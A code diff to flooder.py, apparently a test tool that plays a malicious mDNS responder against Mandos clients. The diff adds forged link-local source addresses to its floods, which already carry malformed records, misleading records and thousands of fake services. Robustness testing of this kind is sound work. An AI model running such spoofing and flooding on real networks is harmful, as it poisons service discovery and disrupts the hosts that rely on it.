@@ -1,9 +1,11 @@
 """A machine on the link that means harm: multicasts what only a bad responder would, until it is ended.
 
-Usage: flooder.py INTERFACE ADDRESS-OF-THE-GOOD-SERVER
-Writes "flooding" when the first round, with 2,000 services among it, is out.
+Usage: flooder.py INTERFACE ADDRESS-OF-THE-GOOD-SERVER [OTHER-SOURCES]
+OTHER-SOURCES: from how many forged addresses it announces beside its own. Writes "flooding" when the first round,
+with 2,000 services among it, is out.
 """
 
+import itertools
 import socket
 import struct
 import sys
@@ -12,6 +14,7 @@ import time
 PORT = 5353
 GROUP = "ff02::fb"
 POINTER, LOCATION, ADDRESS = 12, 33, 28
+IPV6_FREEBIND = 78  # linux/in6.h
 
 
 def name(*labels):
@@ -66,12 +69,20 @@ def tricks(good_address):
     yield server(b"Mandos", good_address, ttl=0xFFFFFFFF)
 
 
-def main(interface, good_address):
-    index = socket.if_nametoindex(interface)
+def open_socket(index, address="::"):
     sender = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
     sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    sender.bind(("::", PORT))
+    sender.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+    sender.bind((address, PORT, 0, index))
     sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
+    sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
+    return sender
+
+
+def main(interface, good_address, other_sources="0"):
+    index = socket.if_nametoindex(interface)
+    sender = open_socket(index)
+    forgers = [open_socket(index, f"fe80::666:{number:x}") for number in range(1, 1 + int(other_sources))]
     own = socket.inet_pton(socket.AF_INET6, "fe80::666")
     good = socket.inet_pton(socket.AF_INET6, good_address)
 
@@ -86,6 +97,8 @@ def main(interface, good_address):
         send(malformed(), 255)
         send(tricks(good), 255)
         send((server(b"Mandos #%d" % number, own) for number in range(2000)), 255)
+        for forger, number in zip(forgers, itertools.count()):
+            forger.sendto(server(b"forged #%d" % number, own), (GROUP, PORT, 0, index))
         if first:
             print("flooding", flush=True)
             first = False
